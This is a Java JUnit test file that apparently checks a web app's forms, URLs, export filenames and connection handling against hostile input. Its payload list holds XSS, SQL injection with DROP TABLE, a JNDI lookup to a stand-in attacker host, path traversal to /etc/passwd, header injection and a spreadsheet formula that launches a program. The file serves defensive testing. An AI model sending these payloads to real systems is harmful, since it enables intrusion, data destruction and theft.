package org.valuegap.app.access;

import static java.nio.charset.StandardCharsets.US_ASCII;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.Socket;
import java.net.URLEncoder;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.http.ContentDisposition;
import org.valuegap.app.TestServer;
import org.valuegap.app.TestServer.Browser;

/** What somebody may send who means no good: B68, B75, B77 of the catalogue of bad inputs. */
class BadInputsTest {
  /** What other programs take for code, a path, a header or the end of a string. */
  private static final List<String> HOSTILE =
      List.of(
          "<script>alert(49)</script>",
          "\"><img src=x onerror=alert(49)>",
          "</textarea></title><svg/onload=alert(49)>",
          "' OR '1'='1'; DROP TABLE person; --",
          "${7*7} #{7*7} {{7*7}} <%= 7*7 %> ${T(java.lang.Runtime)}",
          "${jndi:ldap://evil.example/x}",
          "*)(uid=*))(|(uid=*",
          "../../../../etc/passwd",
          "a\r\nSet-Cookie: stolen=49\r\n\r\n<b>",
          "{0} {1,number} {x, plural, one {#}} '{' ''",
          "=cmd|' /C calc'!A0",
          "\u202egnp.exe \u2066 \u0000 \ufeff \ud83d",
          "%00%0d%0a%2e%2e%2f",
          "__proto__");

  /** A request whose body does not come to its end. */
  private static final String HALF =
      "POST /sign-in HTTP/1.1\r\nHost: localhost\r\nContent-Length: 9\r\n\r\na";

  /** A form, with what its other fields must have. */
  private record Form(String path, String field, Map<String, String> rest) {}

  private static TestServer server;
  private static Browser ines;
  private static String map;

  @BeforeAll
  static void start() {
    server = TestServer.ofAnubis("--server.tomcat.connection-timeout=1500ms");
    ines = server.owner();
    map = created("Dana Okafor");
  }

  @AfterAll
  static void stop() {
    server.close();
  }

  private static String created(String name) {
    var made = ines.post("/customers/new", Map.of("name", name)).headers();
    return made.firstValue("Location").orElseThrow().replace("/maps/", "");
  }

  private static List<Form> forms() {
    var all = new ArrayList<Form>();
    var customer = Map.of("name", "Dana", "kind", "PERSONA");
    for (var field : List.of("name", "type", "position", "profile", "kind", "was-name")) {
      all.add(new Form("/customers/" + map, field, customer));
    }
    all.add(new Form("/customers/new", "name", customer));
    all.add(new Form("/settings", "workspace", Map.of()));
    for (var field : List.of("OWN", "own", "competing", "kind")) {
      all.add(new Form("/settings/products", field, Map.of("kind", "own", "own", "Anubis")));
    }
    for (var field : List.of("name", "email", "role")) {
      var greta = Map.of("name", "Greta", "email", "greta@anubis.example", "role", "VIEWER");
      all.add(new Form("/settings/members", field, greta));
    }
    for (var field : List.of("name", "colour")) {
      all.add(
          new Form("/settings/profile", field, Map.of("name", "Ines Duarte", "colour", "ROSE")));
    }
    for (var field : List.of("label", "days")) {
      all.add(new Form("/maps/" + map + "/share", field, Map.of()));
    }
    for (var field : List.of("name", "at")) {
      all.add(new Form("/maps/" + map + "/history/name", field, Map.of("at", "1", "name", "x")));
    }
    for (var field : List.of("map", "into")) {
      all.add(new Form("/import/make", field, Map.of("map", "{}")));
    }
    all.add(new Form("/sign-in", "email", Map.of("password", "x")));
    all.add(new Form("/guest", "name", Map.of()));
    all.add(new Form("/join", "code", Map.of("name", "Greta")));
    return all;
  }

  @Test
  void b75WhatLooksLikeCodeIsTextInEveryFieldOfEveryForm() {
    for (var form : forms()) {
      for (var hostile : HOSTILE) {
        var sent = new HashMap<>(form.rest);
        sent.put(form.field, hostile);
        var who = form.path.matches("/(sign-in|guest|join)") ? server.browser() : ines;
        var answer = who.post(form.path, sent);
        var where = form.path + " " + form.field + " " + hostile;
        assertThat(answer.statusCode()).as(where).isLessThan(500);
        assertThat(answer.headers().toString()).as(where).doesNotContain("stolen=49;");
        assertHarmless(where, answer.body());
      }
    }
    for (var page :
        List.of(
            "/",
            "/customers",
            "/customers/" + map,
            "/maps/" + map,
            "/settings",
            "/settings/members",
            "/settings/profile",
            "/maps/" + map + "/share",
            "/maps/" + map + "/history",
            "/maps/" + map + "/empathy")) {
      var answer = ines.get(page);
      assertThat(answer.statusCode()).as(page).isEqualTo(200);
      assertHarmless(page, answer.body());
    }
  }

  @Test
  void b75WhatLooksLikeCodeIsTextInAddressesToo() {
    for (var hostile : HOSTILE) {
      var text = URLEncoder.encode(hostile, UTF_8);
      for (var path :
          List.of(
              "/search?q=",
              "/sign-in?next=",
              "/join?code=",
              "/maps/" + map + "?job=",
              "/maps/" + map + "?view=",
              "/maps/" + map + "/history?on=",
              "/maps/" + map + "/history?at=",
              "/import?into=",
              "/customers?deleted=",
              "/settings/profile?saved=")) {
        var answer = ines.get(path + text);
        assertThat(answer.statusCode()).as(path + hostile).isLessThan(500);
        assertHarmless(path + hostile, answer.body());
      }
    }
  }

  private static void assertHarmless(String where, String body) {
    assertThat(body)
        .as(where)
        .doesNotContain("<script>alert", "<img src=x", "<svg/onload", ">49 ", "49 49 49", "root:x:")
        .doesNotContain("Exception", "at org.valuegap");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "CON",
        "a/b\\c",
        "../../x",
        "\u202efdp.exe",
        "“Dana” \"O\"",
        "أمل نجار",
        "👩🏽‍💻🚒",
        "a\nb",
        "nul.x"
      })
  void b68AFileHasANameThatEverySystemCanKeep(String name) {
    assertName(name);
  }

  @Test
  void b68ALongNameIsCut() {
    assertName("Dana ".repeat(40).strip());
    assertName("监".repeat(200));
  }

  private static void assertName(String name) {
    var answer = ines.get("/maps/" + created(name) + "/export.csv");
    var header = answer.headers().firstValue("Content-Disposition").orElseThrow();
    assertThat(header).isPrintable().matches("\\p{ASCII}+").startsWith("attachment; filename");
    var file = ContentDisposition.parse(header).getFilename();
    assertThat(file).endsWith(".csv").doesNotContain("/", "\\", "\"", "\n", "\u202e");
    assertThat(file.toLowerCase()).doesNotMatch("(con|nul)\\..*");
    assertThat(file.getBytes(UTF_8).length).isLessThanOrEqualTo(255);
  }

  /** B77: who opens a connection and says nothing, or half of something, is hung up on. */
  @Test
  void b77SilentAndSlowConnectionsEndAndKeepNobodyOut() throws IOException {
    var silent = new ArrayList<Socket>();
    try {
      for (int i = 0; i < 150; i++) {
        var socket = new Socket(server.address().getHost(), server.address().getPort());
        socket.setSoTimeout(10_000);
        silent.add(socket);
        var said = List.of("", HALF.substring(0, 30), HALF).get(i % 3);
        socket.getOutputStream().write(said.getBytes(US_ASCII));
      }
      assertThat(server.browser().get("/healthz").body()).isEqualTo("ok\n");
      for (var socket : silent) {
        socket.getInputStream().readAllBytes(); // ends, or fails the test after 10 s
      }
    } finally {
      for (var socket : silent) {
        socket.close();
      }
    }
  }
}
